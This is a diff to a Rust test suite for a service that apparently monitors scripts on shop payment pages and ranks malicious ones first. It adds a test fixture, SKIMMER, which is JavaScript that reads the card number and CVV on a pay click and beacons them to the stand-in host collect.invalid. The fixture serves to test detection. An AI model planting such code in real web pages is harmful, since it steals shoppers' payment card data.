@@ -13,6 +13,7 @@ use axum::http::{Method, Request, StatusCode};
 use serde_json::{Value, json};
 use service::{Config, Scope, Service};
 use tower::ServiceExt as _;
+use verdict::Timestamp;
 
 /// A service over a folder of its own.
 struct Shop {
@@ -91,13 +92,18 @@ fn seen(count: usize) -> String {
                 "kind": "script",
                 "url": format!("https://cdn{}.widget.example/lib-{}.js", number % 3, letters(number)),
                 "page_url": "https://shop.example/pay",
-                "seen_at": format!("2026-11-28T08:{:02}:00Z", number % 60),
+                "seen_at": minutes_ago(60 - (number % 60) as u64),
                 "text": format!("rate({number})"),
             });
             lines.push_str(&format!("{line}\n"));
         }
     }
     lines
+}
+
+fn minutes_ago(minutes: u64) -> String {
+    let at = std::time::SystemTime::now() - Duration::from_secs(60 * minutes);
+    Timestamp::from(at).to_string()
 }
 
 /// A name that no counter is in.
@@ -517,4 +523,59 @@ async fn a_site_that_is_switched_off_takes_nothing_in() {
     assert_eq!(shop.send(Method::PUT, ZONE, switch(true)).await.0, StatusCode::OK);
     shop.observe(connection("https://on.example/"), 2).await;
     assert_eq!(urls(&shop.get("/connections?status=all").await), ["https://on.example"]);
+}
+
+/// Sends nothing: the host does not exist, and nobody runs it.
+const SKIMMER: &str = "document.querySelector('#pay').addEventListener('click', function () {\
+    var card = { cc_number: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value };\
+    new Image().src = '//collect.invalid/p.gif?d=' + btoa(JSON.stringify(card));\
+});";
+
+#[tokio::test(flavor = "multi_thread")]
+async fn malicious_ones_come_first_and_duplicates_once() {
+    let shop = Shop::new().await;
+    let seen = |name: &str, minutes: u64, text: &str, times: usize| {
+        let url = format!("https://cdn.widget.example/{name}.js");
+        let line = json!({
+            "kind": "script", "url": url, "page_url": "https://shop.example/pay", "text": text, "seen_at": minutes_ago(minutes),
+        });
+        format!("{line}\n").repeat(times)
+    };
+    // Two with the same content on the same host, another, and a malicious one that is seldom seen.
+    let lines = seen("bad", 50, SKIMMER, 1)
+        + &seen("early", 40, "rate(1)", 3)
+        + &seen("late", 20, "rate(1)", 3)
+        + &seen("cdn-cgi/own", 10, "rate(3)", 3)
+        + &seen("other", 30, "rate(2)", 3);
+    shop.observe(lines, 5).await;
+    let names = async |query: &str| {
+        let answer = shop.get(&format!("/scripts?{query}")).await;
+        let name = |url: &str| url.rsplit('/').next().unwrap().trim_end_matches(".js").to_owned();
+        let names: Vec<String> = urls(&answer).into_iter().map(name).collect();
+        (names.join(" "), answer["result_info"]["total_count"].as_u64().unwrap())
+    };
+    for (query, want, total) in [
+        ("", "bad late other early", 4),
+        ("direction=asc", "bad early other late", 4),
+        ("prioritize_malicious=true&order_by=first_seen_at", "bad late other early", 4),
+        ("prioritize_malicious=false", "late other early bad", 4),
+        ("prioritize_malicious=false&direction=asc&order_by=first_seen_at", "bad early other late", 4),
+        ("exclude_duplicates=true", "bad late other", 3),
+        ("exclude_duplicates=true&direction=asc", "bad other late", 3),
+        ("exclude_duplicates=true&urls=early", "early", 1),
+        ("exclude_cdn_cgi=false", "bad own late other early", 5),
+        // A status never hides what is malicious.
+        ("status=inactive", "bad", 1),
+        ("status=infrequent,inactive", "bad", 1),
+        ("status=all&per_page=2&page=1", "bad late", 4),
+        ("status=all&per_page=2&page=2", "other early", 4),
+        ("per_page=3&page=2", "early", 4),
+        ("per_page=3&page=3", "", 4),
+        ("per_page=50001&page=18446744073709551615", "", 4),
+        ("page=all&per_page=1", "bad late other early", 4),
+    ] {
+        assert_eq!(names(query).await, (want.to_owned(), total), "{query}");
+    }
+    let id = shop.get("/scripts?urls=own&exclude_cdn_cgi=0").await["result"][0].clone();
+    assert_eq!(id["url_contains_cdn_cgi_path"], true);
 }
